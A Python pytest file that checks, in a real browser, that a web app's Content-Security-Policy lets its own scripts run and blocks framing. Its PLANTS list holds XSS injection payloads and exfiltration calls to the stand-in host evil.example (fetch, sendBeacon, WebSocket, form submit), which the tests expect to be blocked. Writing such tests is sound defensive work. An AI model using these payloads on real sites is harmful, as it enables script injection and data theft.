"""The Content-Security-Policy in a real browser: on every page it stops nothing of ours, and everything else."""

import asyncio

import pytest

from advocacy_app.db import dispose
from advocacy_app.i18n import LANGUAGES
from advocacy_app.pages import SITE_MAP
from tests.product import Product
from tests.security.eyes import eyes
from tests.security.roles import World, furnish

DOORS = ("/sign-in", "/auth/code", "/auth/invite", "/goodbye", "/outbox", "/nowhere", "/s/none", "/p/none")
"""Pages that the server writes, for people who are not signed in."""


@pytest.fixture(scope="module")
def world(running: Product) -> World:
    async def make() -> World:
        try:
            return await furnish(running)
        finally:
            await dispose()

    return asyncio.run(make())


def _places(world: World) -> list[str]:
    """Every page, with something in its address."""
    return [place.route.replace("[slug]", world.card).replace("[entry]", "0" * 32) for place in SITE_MAP]


async def test_the_policy_stops_nothing_of_ours(product: Product, world: World) -> None:
    """Each page in one of the languages, the feed in all of them: scripts are allowed by their hash, per language."""
    visits = [*((place, LANGUAGES[i % 5]) for i, place in enumerate(_places(world))), *(("/", x) for x in LANGUAGES)]
    async with eyes(product.url, await product.cookie_of(product.cast.ines)) as seen:
        for place, language in visits:
            await seen.speak(product.url, language)
            await seen.look_at(product.url + place)
            lang = await seen.page.evaluate("document.documentElement.lang")
            assert lang == language, place
            assert (place, seen.stopped, seen.errors, seen.planted) == (place, [], [], [])


async def test_the_policy_stops_nothing_of_ours_at_the_door(product: Product, world: World) -> None:
    async with eyes(product.url) as seen:
        for i, place in enumerate((*DOORS, f"/p/{world.card}")):
            await seen.speak(product.url, LANGUAGES[i % 5])
            await seen.look_at(product.url + place)
            assert (place, seen.stopped, seen.errors, seen.planted) == (place, [], [], [])


PLANTS = (
    "const s = document.createElement('script'); s.textContent = 'planted(1)'; document.body.append(s)",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "const s = document.createElement('script'); s.src = 'data:text/javascript,planted(2)'; document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=planted(3)>')",
    "document.body.insertAdjacentHTML('beforeend', '<svg onload=planted(4)></svg>')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.planted(5)</script>\"></iframe>')",
    "document.body.insertAdjacentHTML('beforeend', '<object data=\"data:text/html,x\"></object>')",
    "document.body.insertAdjacentHTML('beforeend', '<a id=go href=\"javascript:planted(6)\">x</a>'); go.click()",
    "try { eval('planted(7)') } catch {}",
    "try { new Function('planted(8)')() } catch {}",
    "try { setTimeout('planted(9)', 0) } catch {}",
    "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "fetch('https://evil.example/steal').catch(() => {})",
    "new WebSocket('wss://evil.example/')",
    "navigator.sendBeacon('https://evil.example/steal', 'x')",
    "document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://evil.example/\"></form>'); f.submit()",
    "new Image().src = 'https://evil.example/pixel.gif'",
    "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"https://evil.example/x.css\">')",
    "try { new Worker('data:text/javascript,0') } catch {}",
)


@pytest.mark.parametrize("plant", PLANTS)
async def test_the_policy_stops_what_is_planted(product: Product, plant: str) -> None:
    """Even where something got into a page, it does not run and nothing gets out."""
    async with eyes(product.url, await product.cookie_of(product.cast.ana)) as seen:
        await seen.look_at(product.url + "/library")
        await seen.page.evaluate(f"() => {{ setTimeout(() => {{ {plant} }}) }}")  # as a script of the page
        await seen.notice(wait="base" not in plant)
        assert seen.page.url == product.url + "/library"
        assert not seen.planted
        assert seen.stopped or "base" in plant


async def test_no_page_can_be_framed(product: Product) -> None:
    async with eyes(product.url, await product.cookie_of(product.cast.ana)) as seen:
        await seen.page.set_content(f'<iframe id="f" src="{product.url}/"></iframe>')
        await seen.page.wait_for_timeout(500)
        frame = seen.page.frames[-1]
        assert await frame.evaluate("document.querySelector('main') === null")
